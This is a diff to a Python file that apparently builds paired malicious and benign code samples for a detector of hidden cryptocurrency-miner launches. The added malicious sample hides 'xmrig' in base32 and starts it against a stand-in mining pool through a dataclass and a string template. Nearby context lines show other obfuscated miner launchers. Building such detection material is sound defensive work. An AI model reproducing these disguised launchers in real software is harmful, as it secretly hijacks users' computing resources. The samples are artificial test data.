@@ -677,6 +677,11 @@ TABLES = {
         "            return fn(*(os.environ[k][::-1] for k in keys))\n        return w\n    return deco\n"
         "@from_env('P_BIN', 'P_POOL')\ndef start(b, p):\n"
         "    return subprocess.Popen([b, '-o', p, '-u', 'WALLET'])\nproc = start()",
+    "a dataclass's fields filled into a string.Template by a method called on a new instance":
+        "import shlex, subprocess, base64\nfrom dataclasses import dataclass\nfrom string import Template\n@dataclass\n"
+        f"class Job:\n    pool: str = 'pool.example.net:3333'\n    exe: str = base64.b32decode('{base64.b32encode(b'xmrig').decode()}').decode()\n"
+        "    def argv(self):\n        t = Template('$exe -o $pool -u WALLET')\n        return shlex.split(t.substitute(vars(self)))\n"
+        "subprocess.run((j := Job()).argv())",
     "a script written to a path made with the process id, then run":
         "import os, base64, subprocess\npath = os.path.join('/tmp', 'job_' + str(os.getpid()) + '.sh')\n"
         f"with open(path, 'w') as fh:\n    fh.write('cd /tmp\\n{MINER}\\n')\nsubprocess.run(['bash', path])",
@@ -742,6 +747,11 @@ TABLES_BENIGN = {
         "def from_env(*keys):\n    def deco(fn):\n        def w():\n"
         "            return fn(*(os.environ[k][::-1] for k in keys))\n        return w\n    return deco\n"
         "@from_env('P_BIN', 'P_FMT')\ndef start(b, f):\n    return subprocess.Popen([b, '--format', f])\nproc = start()",
+    "a dataclass's fields filled into an ordinary command template":
+        "import shlex, subprocess, base64\nfrom dataclasses import dataclass\nfrom string import Template\n@dataclass\n"
+        f"class Job:\n    fmt: str = 'csv'\n    exe: str = base64.b32decode('{base64.b32encode(b'nvidia-smi').decode()}').decode()\n"
+        "    def argv(self):\n        t = Template('$exe --format $fmt')\n        return shlex.split(t.substitute(vars(self)))\n"
+        "subprocess.run((j := Job()).argv())",
     "an ordinary function picked from a list written in place": "import os\nwhere = [os.getcwd][0]\nprint(where())",
     "a helper look-up of an ordinary function": "import os\ng = lambda o, n: getattr(o, n[::-1])\nprint(g(os, 'dwcteg')())",
     "a device chosen with os.environ.update and read back":
